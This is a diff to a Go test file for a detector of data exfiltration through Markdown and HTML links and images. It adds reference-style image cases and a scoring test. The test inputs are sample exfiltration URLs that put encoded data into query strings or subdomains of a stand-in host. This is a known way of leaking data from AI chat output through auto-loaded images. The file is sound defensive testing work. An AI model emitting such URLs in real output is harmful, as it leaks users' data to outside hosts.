@@ -55,6 +55,8 @@ func TestPositives(t *testing.T) {
 		{"html a", `<a href="https://a.example/?d=` + b64 + `">x</a>`, RuleLink, "", nil},
 		{"reference image", "![chart][c]\n\n[c]: https://a.example/p.png?d=" + hexd[:24] + "\n", RuleReference, "[c]: https://a.example/p.png?d=" + hexd[:24], nil},
 		{"reference link", "[c]: https://a.example/p?d=" + b64 + " \"T\"\n", RuleReference, "", nil},
+		{"reference shortcut image", "![C]\n\n[c]: https://a.example/p.png?d=" + hexd[:24] + "\n", RuleReference, "", nil},
+		{"reference collapsed image", "![c][]\n[c]: <https://a.example/p.png?d=" + hexd[:24] + ">\n", RuleReference, "", nil},
 		{"dns hex", "![x](https://" + hexd + ".a.example/p.png)", RuleDNS, "", nil},
 		{"dns labels", "![x](https://nbswy3dp.ebxxe4tm.mqqho2lunaqe.a.example/p.png)", RuleDNS, "", nil},
 		{"ip host", "![x](http://203.0.113.9/p.png?u=alice)", RuleMarkdownImage, "", nil},
@@ -132,6 +134,17 @@ func TestNegatives(t *testing.T) {
 				}
 			}
 		})
+	}
+}
+
+func TestReferenceUsedAsImage(t *testing.T) {
+	d := newDetector(t, nil)
+	def := "[c]: https://a.example/p.png?d=" + hexd[:24] + "\n"
+	img := detecttest.Detect(t, d, "![x][c]\n"+def)
+	lnk := detecttest.Detect(t, d, "[x][c]\n"+def)
+	after := detecttest.Detect(t, d, def+"![x][c]\n")
+	if len(img) != 1 || len(lnk) != 1 || len(after) != 1 || img[0].Score <= lnk[0].Score || after[0].Score != lnk[0].Score {
+		t.Fatalf("used by an image %+v, by a link %+v, before its use %+v", img, lnk, after)
 	}
 }
 
